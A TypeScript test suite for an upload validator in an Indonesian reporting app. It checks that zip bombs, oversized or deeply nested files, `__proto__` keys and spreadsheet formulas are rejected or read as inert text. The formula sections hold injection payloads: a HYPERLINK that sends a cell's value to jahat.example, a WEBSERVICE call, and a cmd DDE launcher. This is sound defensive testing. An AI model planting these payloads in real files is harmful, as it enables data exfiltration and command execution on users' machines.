/**
 * Hostile input (issue 8): zip bombs, files at the size limit, shapes meant to exhaust memory or time,
 * `__proto__` keys and formula text. Each must give a clear error (code, row, column, a message in
 * Bahasa Indonesia) or be read safely: never a throw. Memory is measured in bench/hostile.ts, not here.
 * Several cases below crashed, or took tens of seconds, before the limits they test existed; each says so.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildRegionIndex, loadRegionIndex, type RegionIndex } from '../../lib/domain/regions.ts';
import { validateFigures, type FiguresValidation } from '../../lib/inputs/figures.ts';
import type { ValidationIssue } from '../../lib/inputs/issues.ts';
import { UPLOAD_LIMITS } from '../../lib/inputs/limits.ts';
import { parseDecimal } from '../../lib/inputs/numbers.ts';
import { validateRecipients } from '../../lib/inputs/recipients.ts';
import { readCsvTable, readTable } from '../../lib/inputs/table.ts';
import { uploadTemplate } from '../../lib/inputs/template.ts';
import { readXlsxTable } from '../../lib/inputs/xlsx.ts';
import { generateSampleDataset } from '../../tools/sample/index.ts';
import { csvCell, csvLine, escapeCsvCell } from '../../lib/util/csv.ts';
import { bombs, HEADER, hostileText, sheetXml, validCsvOfSize, workbookAround, zip, type ZipEntry } from '../fixtures/hostile-uploads.ts';

let regions: RegionIndex;
beforeAll(async () => {
  regions = await loadRegionIndex();
});

const validate = (bytes: Uint8Array, fileName: string) => validateFigures(bytes, { fileName, period: '2025-10', regions });
const triples = (issues: ValidationIssue[]) => issues.map((issue) => [issue.row, issue.column, issue.code]);

/** The same test as the upload corpus: Indonesian words, and none of the usual English ones outside quotes. */
function expectIndonesian(issues: ValidationIssue[]): void {
  for (const issue of issues) {
    const words = issue.message.replace(/"[^"]*"/g, '');
    expect(words, issue.code).not.toMatch(/\b(invalid|error|missing|empty|unknown|expected|must|should|not|the|column|row|file|value|number|too|large)\b/i);
    expect(words, issue.code).toMatch(/\b(berkas|kolom|baris|kode|wilayah|nilai|periode|tidak|bukan|sel|larik|lembar|bagian|format)\b/i);
    // Short enough to read in an email, whatever the file held.
    expect(issue.message.length, issue.code).toBeLessThan(400);
  }
}

function fileError(result: FiguresValidation): ValidationIssue {
  expect(result.ok).toBe(false);
  expect(result.rows).toEqual([]);
  expect(result.errors).toHaveLength(1);
  expectIndonesian(result.errors);
  return result.errors[0]!;
}

describe('xlsx zip bombs', () => {
  it('rejects a sheet that would inflate to 256 MiB from 250 KB before inflating anything', async () => {
    const bytes = bombs.honest();
    expect(bytes.length).toBeLessThan(400 * 1024);
    const error = fileError(await validate(bytes, 'bom.xlsx'));
    expect(error).toMatchObject({ row: null, column: null, code: 'XLSX_TERLALU_BESAR' });
    expect(error.message).toContain('100 MB');
  });

  it('stops inflating a sheet that declares 64 KB and holds 1 GiB at the declared size', async () => {
    const error = fileError(await validate(bombs.lying(), 'bom-bohong.xlsx'));
    expect(error.code).toBe('XLSX_TERLALU_BESAR');
    expect(error.message).toContain('xl/worksheets/sheet1.xml');
  });

  it('rejects a 64 MiB sheet under the total cap by its compression ratio', async () => {
    const error = fileError(await validate(bombs.highRatio(), 'rasio.xlsx'));
    expect(error.code).toBe('XLSX_TERLALU_BESAR');
    expect(error.message).toContain('100×');
  });

  it('rejects many small entries by their declared total, too many entries, and overlapping entries', async () => {
    for (const [name, bytes, expected] of [
      ['banyak-kecil.xlsx', bombs.manySmall(), '100 MB'],
      ['banyak-bagian.xlsx', bombs.manyEntries(), '10.000'],
      ['tumpang-tindih.xlsx', bombs.overlapping(), '100 MB'],
    ] as const) {
      const error = fileError(await validate(bytes, name));
      expect(error.code, name).toBe('XLSX_TERLALU_BESAR');
      expect(error.message, name).toContain(expected);
    }
  });
});

/** A workbook around a sheet stored uncompressed, so its size is never judged by its compression ratio. */
const storedSheet = (xml: string, more: ZipEntry[] = []) => workbookAround({ data: xml, method: 0 }, more);
const ROWS = [[...HEADER], ['18', 4_512_806, 1_084_126]];

describe('xlsx shapes that cost exceljs memory or time out of proportion', () => {
  it('ignores what comes before sheetData: <cols max="2000000000"> ran the process out of memory', async () => {
    const bytes = storedSheet(sheetXml(ROWS, '<cols><col min="1" max="2000000000" width="9"/></cols><dimension ref="A1:XFD1048576"/>'));
    const result = await validate(bytes, 'kolom-lebar.xlsx');
    expect(result.errors).toEqual([]);
    expect(result.rows.map((row) => [row.row, row.code, row.active])).toEqual([[2, '18', 1_084_126]]);
  });

  it('rejects a row number past Excel last row (row 1,000,000,000 took 30 s)', async () => {
    const xml = sheetXml([[...HEADER]]).replace('</sheetData>', '<row r="1000000000"><c r="A1000000000"><v>18</v></c></row></sheetData>');
    const error = fileError(await validate(storedSheet(xml), 'baris-jauh.xlsx'));
    expect(error.code).toBe('XLSX_RUSAK');
    expect(error.message).toContain('1.048.576');
    // The last row itself is fine.
    const last = sheetXml([[...HEADER]]).replace('</sheetData>', '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>18</t></is></c><c r="C1048576"><v>5</v></c></row></sheetData>');
    expect((await validate(storedSheet(last), 'baris-terakhir.xlsx')).rows.map((row) => row.row)).toEqual([1_048_576]);
  });

  it('rejects nesting and tags no spreadsheet writes, in the sheet, shared strings and styles', async () => {
    const depth = 1_000_000;
    const deep = sheetXml(ROWS).replace('<v>1084126</v>', `${'<x>'.repeat(depth)}${'</x>'.repeat(depth)}<v>1084126</v>`);
    const wideTag = sheetXml(ROWS).replace('<c r="A2"', `<c r="A2"${Array.from({ length: 5_000 }, (_, i) => ` a${i}=""`).join('')}`);
    const deepStrings: ZipEntry = {
      name: 'xl/sharedStrings.xml',
      data: `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si>${'<r>'.repeat(100)}<t>x</t>${'</r>'.repeat(100)}</si></sst>`,
    };
    for (const [name, bytes, detail] of [
      ['dalam.xlsx', storedSheet(deep), '32 tingkat'],
      ['tag-besar.xlsx', storedSheet(wideTag), '16 KB'],
      ['teks-dalam.xlsx', storedSheet(sheetXml(ROWS), [deepStrings]), '32 tingkat'],
    ] as const) {
      const error = fileError(await validate(bytes, name));
      expect(error.code, name).toBe('XLSX_RUSAK');
      expect(error.message, name).toContain(detail);
    }
  });

  it('caps the elements of the styles part', async () => {
    const styles: ZipEntry = {
      name: 'xl/styles.xml',
      method: 0,
      data: `<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs>${'<xf numFmtId="0"/>'.repeat(250_001)}</cellXfs></styleSheet>`,
    };
    const error = fileError(await validate(storedSheet(sheetXml(ROWS), [styles]), 'gaya.xlsx'));
    expect(error.code).toBe('XLSX_TERLALU_BESAR');
    expect(error.message).toContain('250.000');
  });

  it('finds the sheet in linear time, and caps the workbook and relationship parts (80,000 sheets took 40 s)', async () => {
    const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
    const workbookOf = (n: number) =>
      zip([
        { name: '_rels/.rels', data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>` },
        {
          name: 'xl/workbook.xml',
          data: `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}"><sheets>${Array.from({ length: n }, (_, i) => `<sheet name="s${i}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join('')}</sheets></workbook>`,
        },
        {
          name: 'xl/_rels/workbook.xml.rels',
          data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${Array.from({ length: n }, (_, i) => `<Relationship Id="rId${n - i}" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/>`).join('')}</Relationships>`,
        },
        { name: 'xl/worksheets/sheet1.xml', data: sheetXml(ROWS) },
      ]);
    const result = await validate(workbookOf(25_000), 'banyak-lembar.xlsx');
    expect(result.errors).toEqual([]);
    expect(result.rows.map((row) => row.code)).toEqual(['18']);
    const error = fileError(await validate(workbookOf(40_000), 'banyak-lembar-lagi.xlsx'));
    expect(error.code).toBe('XLSX_TERLALU_BESAR');
    expect(error.message).toContain('xl/_rels/workbook.xml.rels');
  });
});

describe('CSV and JSON at the size limit, shaped to exhaust memory', () => {
  it('rejects 20 MB of rows under 15,000 named columns (1 GB peak before)', async () => {
    const error = fileError(await validate(hostileText.wideCsv(), 'lebar.csv'));
    expect(error).toMatchObject({ row: 1, column: null, code: 'KOLOM_TERLALU_BANYAK' });
    expect(error.message).toContain('1.000');
  });

  it('rejects 20 MB of one-letter cells by their count', async () => {
    const error = fileError(await validate(hostileText.manyCellsCsv(), 'sel.csv'));
    expect(error).toMatchObject({ row: null, column: null, code: 'SEL_TERLALU_BANYAK' });
    expect(error.message).toContain('4.000.000');
  });

  it('still reads a file whose every row ends in 16,000 empty cells (Excel used range to column XFD)', async () => {
    const trailing = ';'.repeat(16_000);
    const lines = ['kode_wilayah;pekerja;peserta_aktif' + trailing, ...regions.regencies.map((r) => `${r.code};1000000;400000${trailing}`)];
    const result = await validate(Buffer.from(lines.join('\r\n')), 'rentang-terpakai.csv');
    expect(result.errors).toEqual([]);
    expect(result.rows).toHaveLength(514);
  });

  it('rejects JSON nested ten million deep (1.1 GB peak before; as a cell value, a RangeError out of the handler)', async () => {
    for (const bytes of [hostileText.deepJson(), hostileText.deepCellJson()]) {
      const error = fileError(await validate(bytes, 'dalam.json'));
      expect(error).toMatchObject({ row: null, column: null, code: 'JSON_TERLALU_DALAM' });
    }
    // Nesting within the cap still reads: a cell holding an object is a cell error, not a crash.
    const shallow = await validate(Buffer.from('[{"kode_wilayah": "18", "peserta_aktif": [[[[[1]]]]]}]'), 'dangkal.json');
    expect(triples(shallow.errors)).toEqual([[2, 'peserta_aktif', 'BUKAN_BILANGAN_CACAH']]);
  });

  it('rejects JSON objects with ever new keys at the column cap (26 s and 1.9 GB before)', async () => {
    const error = fileError(await validate(hostileText.newKeysJson(), 'kunci.json'));
    expect(error).toMatchObject({ column: null, code: 'KOLOM_TERLALU_BANYAK' });
    expect(error.row).toBe(12);
  });

  it('rejects a JSON element over the record limit, and too many elements before parsing them', async () => {
    const long = `[{"kode_wilayah": "18", "peserta_aktif": 1}, {"kode_wilayah": "${'1'.repeat(UPLOAD_LIMITS.maxRecordChars)}"}]`;
    expect(fileError(await validate(Buffer.from(long), 'panjang.json'))).toMatchObject({ row: 3, column: null, code: 'BARIS_TERLALU_PANJANG' });
    const many = `[${Array<string>(UPLOAD_LIMITS.maxRows + 1).fill('{}').join(',')}]`;
    expect(fileError(await validate(Buffer.from(many), 'banyak.json'))).toMatchObject({ row: null, code: 'BARIS_TERLALU_BANYAK' });
  });

  it('tells broken JSON from JSON of the wrong shape, large or small', async () => {
    const cases: Array<[string, string]> = [
      ['[{"kode_wilayah": "18"}, ]', 'JSON_RUSAK'],
      ['[1,,2]', 'JSON_RUSAK'],
      ['[1] [2]', 'JSON_RUSAK'],
      ['[{"kode_wilayah": "18"}', 'JSON_RUSAK'],
      ['[{"a": "\\x"}]', 'JSON_RUSAK'],
      ['{"data": [1}', 'JSON_RUSAK'],
      ['{"data": []}', 'JSON_BUKAN_LARIK'],
      [`{"data": "${'x'.repeat(UPLOAD_LIMITS.maxRecordChars)}"}`, 'JSON_BUKAN_LARIK'],
      ['"teks"', 'JSON_BUKAN_LARIK'],
      ['[ ]', 'BERKAS_KOSONG'],
    ];
    for (const [text, code] of cases) expect(fileError(await validate(Buffer.from(text), 'x.json')).code, text.slice(0, 40)).toBe(code);
  });

  it('quotes at most 60 characters of a cell, so 200 errors on 60,000-character cells stay a short report', async () => {
    const huge = '9'.repeat(30_000) + ',5';
    const lines = ['kode_wilayah;peserta_aktif', ...Array.from({ length: 250 }, () => `18;${huge}`)];
    const result = await validate(Buffer.from(lines.join('\n')), 'sel-panjang.csv');
    expect(result.errors).toHaveLength(201);
    expect(result.errors.at(-1)!.code).toBe('TERLALU_BANYAK');
    expectIndonesian(result.errors);
    expect(result.errors[0]!.message).toContain(`"${'9'.repeat(57)}…"`);
    expect(JSON.stringify(result).length).toBeLessThan(100_000);
  });
});

describe('the 20 MB limit', () => {
  it('reads a valid file of exactly 20 MiB in full, and judges one byte more by its size alone', async () => {
    const codes = [...regions.provinces, ...regions.regencies].map((region) => region.code);
    const atLimit = validCsvOfSize(UPLOAD_LIMITS.maxBytes, codes);
    const result = await validate(atLimit, 'tepat-20mb.csv');
    expect(result.errors).toEqual([]);
    expect(result.ok).toBe(true);
    expect(result.rows).toHaveLength(552);
    const over = fileError(await validate(Buffer.concat([atLimit, Buffer.from('x')]), 'lebih-20mb.csv'));
    expect(over).toMatchObject({ row: null, column: null, code: 'BERKAS_TERLALU_BESAR' });
    expect(over.message).toContain('20 MB');
  });
});

describe('__proto__, constructor and prototype are only ever data', () => {
  const untouched = () => {
    expect(Object.prototype).not.toHaveProperty('polluted');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getPrototypeOf({})).toBe(Object.prototype);
  };

  it('in JSON keys and values', async () => {
    const json = JSON.stringify([
      { kode_wilayah: '18', pekerja: 4_512_806, peserta_aktif: 1_084_126, constructor: { prototype: { polluted: 'ya' } }, prototype: { polluted: 'ya' } },
      { kode_wilayah: '__proto__', peserta_aktif: 1 },
      { kode_wilayah: 'constructor', peserta_aktif: 1 },
    ]).replace('{"kode_wilayah":"18",', '{"__proto__": {"polluted": "ya"}, "kode_wilayah":"18",');
    expect(json).toContain('"__proto__"');
    const result = await validate(Buffer.from(json), 'proto.json');
    untouched();
    expect(triples(result.errors)).toEqual([
      [3, 'kode_wilayah', 'KODE_TIDAK_DIKENAL'],
      [4, 'kode_wilayah', 'KODE_TIDAK_DIKENAL'],
    ]);
    expect(triples(result.warnings)).toEqual([
      [1, '__proto__', 'KOLOM_DIABAIKAN'],
      [1, 'constructor', 'KOLOM_DIABAIKAN'],
      [1, 'prototype', 'KOLOM_DIABAIKAN'],
    ]);
    const table = await readTable(Buffer.from(json), 'proto.json');
    if (!table.ok) throw new Error(table.error.code);
    expect(table.table.records[0]!.cells.get('__proto__')).toBe('{"polluted":"ya"}');
  });

  it('in CSV headers, and in a recipients file', async () => {
    const csv = '__proto__,constructor,prototype,toString,hasOwnProperty,kode_wilayah,peserta_aktif\n"{""polluted"":1}",x,y,z,w,18,5\n';
    const result = await validate(Buffer.from(csv), 'proto.csv');
    untouched();
    expect(result.errors).toEqual([]);
    expect(result.rows.map((row) => [row.code, row.active])).toEqual([['18', 5]]);
    expect(result.warnings.map((w) => w.column)).toEqual(['__proto__', 'constructor', 'prototype', 'tostring', 'hasownproperty']);
    const recipients = await validateRecipients(
      Buffer.from('email,nama,jabatan,cakupan,peran,__proto__\nadmin@contoh.example,Sari,Admin,nasional,admin,"{""polluted"": 1}"\n'),
      'config/recipients.csv',
      regions,
    );
    untouched();
    expect(recipients.errors).toEqual([]);
    expect(recipients.recipients).toEqual([{ email: 'admin@contoh.example', name: 'Sari', title: 'Admin', scope: 'nasional', role: 'admin' }]);
  });

  it('in an Excel header', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('data');
    sheet.addRow(['__proto__', 'constructor', ...HEADER]);
    sheet.addRow(['{"polluted": 1}', 'x', '18', 4_512_806, 1_084_126]);
    const result = await validate(new Uint8Array(await workbook.xlsx.writeBuffer()), 'proto.xlsx');
    untouched();
    expect(result.errors).toEqual([]);
    expect(result.rows.map((row) => [row.code, row.active])).toEqual([['18', 1_084_126]]);
  });
});

describe('formula text is read as text, never run', () => {
  it('in CSV: each formula-looking cell is an error where a code or a count belongs, and ignored elsewhere', async () => {
    const csv = [
      'kode_wilayah,nama_wilayah,pekerja,peserta_aktif,peserta_pu,peserta_bpu,peserta_jakon,peserta_pmi',
      '"=HYPERLINK(""http://jahat.example/?d=""&A1,""klik"")",=1+1,1000,500,,,,',
      `18.71,"+cmd|' /C calc'!A0",1000,"+cmd|' /C calc'!A0",,,,`,
      '18.72,@SUM(1+1),-1+1,500,,,,',
      '18.01,"\t=1+1",1000,500,@SUM(A1:A9),100,0,0',
      '18.02,"\r=1+1",1000,500,,,,',
    ].join('\n');
    const result = await validate(Buffer.from(csv), 'rumus.csv');
    expect(triples(result.errors)).toEqual([
      [2, 'kode_wilayah', 'KODE_TIDAK_DIKENAL'],
      [3, 'peserta_aktif', 'BUKAN_BILANGAN_CACAH'],
      [4, 'pekerja', 'BUKAN_BILANGAN_CACAH'],
      [5, 'peserta_pu', 'BUKAN_BILANGAN_CACAH'],
    ]);
    expectIndonesian(result.errors);
    expect(result.errors.map((e) => e.message.match(/"(.*)"/)?.[1])).toEqual([
      '=HYPERLINK("http://jahat.example/?d="&A1,"klik")',
      "+cmd|' /C calc'!A0",
      '-1+1',
      '@SUM(A1:A9)',
    ]);
    expect(result.regionsNamed).toEqual(['18.71', '18.72', '18.01', '18.02']);
  });

  it('in Excel: a formula gives its cached result, no result gives an empty cell, formula text stays text', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('data');
    sheet.addRow([...HEADER]);
    sheet.addRow(['=HYPERLINK("http://jahat.example","klik")', 1000, 500]);
    sheet.addRow(['18.71', 1000, { formula: 'HYPERLINK("http://jahat.example",500)', result: 500 }]);
    sheet.addRow([{ formula: '"18"&".72"', result: '18.72' }, 1000, { formula: 'WEBSERVICE("http://jahat.example")' }]);
    sheet.addRow(['18.01', "-1+1", "+cmd|' /C calc'!A0"]);
    sheet.addRow(['18.02', 1000, { formula: 'SUM(#REF!)', result: { error: '#REF!' } }]);
    const result = await validate(new Uint8Array(await workbook.xlsx.writeBuffer()), 'rumus.xlsx');
    expect(triples(result.errors)).toEqual([
      [2, 'kode_wilayah', 'KODE_TIDAK_DIKENAL'],
      [4, 'peserta_aktif', 'NILAI_KOSONG'],
      [5, 'peserta_aktif', 'BUKAN_BILANGAN_CACAH'],
      [5, 'pekerja', 'BUKAN_BILANGAN_CACAH'],
      [6, 'peserta_aktif', 'BUKAN_BILANGAN_CACAH'],
    ]);
    expectIndonesian(result.errors);
    const table = await readXlsxTable(new Uint8Array(await workbook.xlsx.writeBuffer()));
    if (!table.ok) throw new Error(table.error.code);
    expect(table.table.records.map((r) => [r.cells.get('kode_wilayah'), r.cells.get('peserta_aktif')])).toEqual([
      ['=HYPERLINK("http://jahat.example","klik")', '500'],
      ['18.71', '500'],
      ['18.72', ''],
      ['18.01', "+cmd|' /C calc'!A0"],
      ['18.02', '#REF!'],
    ]);
  });
});

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/** Every cell of a CSV the project wrote, as a spreadsheet would see it. */
function cellsOf(csv: string | Buffer): string[] {
  return (parseCsv(csv, { bom: true, relax_column_count: true }) as string[][]).flat();
}

describe('CSV the project writes escapes formula-leading cells', () => {
  it('prefixes text that begins with = + - @ tab or CR, quotes as CSV needs, and leaves numbers alone', () => {
    expect(escapeCsvCell('=1+1')).toBe("'=1+1");
    expect(escapeCsvCell('=HYPERLINK("http://jahat.example","klik")')).toBe(`"'=HYPERLINK(""http://jahat.example"",""klik"")"`);
    expect(escapeCsvCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(escapeCsvCell('-1+1')).toBe("'-1+1");
    expect(escapeCsvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(escapeCsvCell('\t=1')).toBe("'\t=1");
    expect(escapeCsvCell('\r=1')).toBe(`"'\r=1"`);
    expect(escapeCsvCell('a;b', ';')).toBe('"a;b"');
    // A negative number is no formula: it stays a number, as text or as a number.
    expect(escapeCsvCell('-5')).toBe('-5');
    expect(escapeCsvCell('-0.25')).toBe('-0.25');
    expect(escapeCsvCell('-5,5')).toBe(`"'-5,5"`);
    expect([csvCell(-5), csvCell(-0.25), csvCell(0), csvCell(null), csvCell(undefined), csvCell(-Infinity)]).toEqual(['-5', '-0.25', '0', '', '', "'-Infinity"]);
  });

  it('reads back through the project reader: text with its prefix, numbers as numbers', () => {
    const hostile = ['=1+1', '=HYPERLINK("http://jahat.example","klik")', "+cmd|' /C calc'!A0", '-1+1', '@SUM(A1)', '\t=1', '\r\n=1', 'a,b;c'];
    const text = [csvLine(['kode_wilayah', ...hostile.map((_, i) => `teks${i}`), 'angka', 'angka_teks']), csvLine(['18', ...hostile, -5, '-0.25'])].join('\r\n');
    const table = readCsvTable(text);
    if (!table.ok) throw new Error(table.error.code);
    const cells = table.table.records[0]!.cells;
    hostile.forEach((value, i) => expect(cells.get(`teks${i}`)).toBe(FORMULA_START.test(value) ? `'${value}` : value));
    expect(cells.get('angka')).toBe('-5');
    expect(cells.get('angka_teks')).toBe('-0.25');
    expect(parseDecimal('0.25')).toEqual({ ok: true, value: 0.25 });
    for (const cell of cellsOf(text)) if (FORMULA_START.test(cell)) expect(cell, JSON.stringify(cell)).toMatch(PLAIN_NUMBER);
  });

  it('escapes hostile names in the CSV template, and the filled template still validates', async () => {
    const hostileNames = new Map([
      ['18', '=HYPERLINK("http://jahat.example","klik")'],
      ['51', "+cmd|' /C calc'!A0"],
      ['61', '-1+1'],
      ['94', '@SUM(A1)'],
    ]);
    const index = buildRegionIndex(
      regions.provinces.map((p) => ({ code: p.code, name: hostileNames.get(p.code) ?? p.name })),
      regions.regencies.map((r) => ({ code: r.code, province_code: r.provinceCode!, name: r.name })),
    );
    const template = await uploadTemplate({ level: 'provinsi', format: 'csv', period: '2025-10', regions: index });
    const rows = parseCsv(template, { bom: true }) as string[][];
    for (const [code, name] of hostileNames) expect(rows.find((row) => row[0] === code)?.[1]).toBe(`'${name}`);
    for (const cell of rows.flat()) expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false);
    // An admin fills two provinces with the project's own writer, and uploads it.
    const filled = rows.map((row, i) => (i > 0 && (row[0] === '18' || row[0] === '51') ? [...row.slice(0, 3), 4_000_000, 1_000_000, ...row.slice(5)] : row));
    const result = await validate(Buffer.from(filled.map((row) => csvLine(row)).join('\r\n')), 'templat-terisi.csv');
    expect(result.errors).toEqual([]);
    expect(result.rows.map((row) => [row.code, row.eligible, row.active])).toEqual([
      ['18', 4_000_000, 1_000_000],
      ['51', 4_000_000, 1_000_000],
    ]);
  });

  it('holds for every CSV the project writes: templates and the sample dataset', async () => {
    const files: Array<[string, string | Buffer]> = [];
    for (const level of ['provinsi', 'kabkota'] as const) files.push([`templat-${level}`, await uploadTemplate({ level, format: 'csv', period: '2025-10', regions })]);
    const sample = await generateSampleDataset({ lastPeriod: '2025-10', months: 2 });
    for (const file of [...sample.uploads, ...sample.targets, sample.recipients]) files.push([file.key, file.content]);
    for (const [name, content] of files) {
      const cells = cellsOf(content);
      expect(cells.length, name).toBeGreaterThan(10);
      for (const cell of cells) if (FORMULA_START.test(cell)) expect(cell, `${name}: ${JSON.stringify(cell)}`).toMatch(PLAIN_NUMBER);
    }
  });
});
